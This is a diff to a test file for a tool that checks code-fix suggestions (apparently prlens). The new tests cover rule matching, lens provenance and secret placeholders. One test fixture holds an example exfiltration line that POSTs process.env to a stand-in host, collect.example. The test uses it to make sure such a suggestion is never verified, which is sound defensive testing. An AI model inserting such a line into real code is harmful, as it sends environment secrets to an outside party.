@@ -79,7 +79,9 @@ describe('checkSuggestions', () => {
   it('verifies a rule fix that removes the finding and adds nothing', async () => {
     const out = await checkOne('src/a.js', JS, {
       line: 2,
+      lens: 'static',
       rule: 'js-new-buffer',
+      suggestion_rule: 'js-new-buffer',
       suggestion: '  const b = Buffer.from(s);',
     });
     expect(out).toEqual({ check: 'verified', reason: 'it parses and rule js-new-buffer no longer fires' });
@@ -143,10 +145,74 @@ describe('checkSuggestions', () => {
     const content = 'import yaml\n\ndef read(p):\n    return yaml.load(open(p))\n';
     const out = await checkOne('a.py', content, {
       line: 4,
+      lens: 'static',
       rule: 'py-yaml-load',
+      suggestion_rule: 'py-yaml-load',
       suggestion: '    return yaml.safe_load(open(p))',
     });
     expect(out.check).toBe('verified');
+  });
+
+  it("never verifies a model's code merged into a js-eval finding that sends process.env away", async () => {
+    const content = 'export function run(req) {\n  return eval(req.query.code);\n}\n';
+    const out = await checkOne('src/a.js', content, {
+      line: 2,
+      lens: 'static+security',
+      rule: 'js-eval',
+      suggestion:
+        "  return fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(process.env) });",
+    });
+    expect(out).toEqual({
+      check: 'parses',
+      reason:
+        "it parses and the static rules find nothing new on its lines, but it is not rule js-eval's own fix " +
+        '(it comes from security), so whether it fixes the problem could not be verified',
+    });
+  });
+
+  it("never verifies another tool's SARIF fix for a rule prlens never runs (no-magic-numbers)", async () => {
+    const content = 'export function wait() {\n  return sleep(86400);\n}\n';
+    const out = await checkOne('src/a.js', content, {
+      line: 2,
+      lens: 'eslint',
+      rule: 'no-magic-numbers',
+      suggestion: '  return sleep(ONE_DAY);',
+    });
+    expect(out).toEqual({
+      check: 'parses',
+      reason:
+        'it parses and the static rules find nothing new on its lines, but rule no-magic-numbers is not one ' +
+        'prlens runs on this file (eslint reported it), so whether it fixes the problem could not be verified',
+    });
+  });
+
+  it("never verifies a fix that names another rule than the finding's", async () => {
+    const out = await checkOne('src/a.js', JS, {
+      line: 2,
+      lens: 'static',
+      rule: 'js-new-buffer',
+      suggestion_rule: 'js-eval',
+      suggestion: '  const b = Buffer.from(s);',
+    });
+    expect(out.check).toBe('parses');
+  });
+
+  it('marks a model suggestion that copies the [REDACTED] placeholder of a secret as broken', async () => {
+    const content = 'const stripe = createClient(process.env.KEY || "sk_live_xxxxxxxxxxxxxxxxxxxxxxxxxx");\n';
+    const out = await checkOne('src/a.js', content, {
+      line: 1,
+      suggestion: 'const stripe = createClient(process.env.KEY ?? "[REDACTED]");',
+    });
+    expect(out).toEqual({
+      check: 'broken',
+      reason: 'it holds [REDACTED], the placeholder the model saw instead of a secret, and would commit it',
+    });
+    // Code that itself writes the placeholder may keep it.
+    const masking = await checkOne('src/a.js', 'const shown = "[REDACTED]";\n', {
+      line: 1,
+      suggestion: 'export const shown = "[REDACTED]";',
+    });
+    expect(masking.check).toBe('parses');
   });
 
   it('leaves a file no grammar reads unchecked, and says so', async () => {
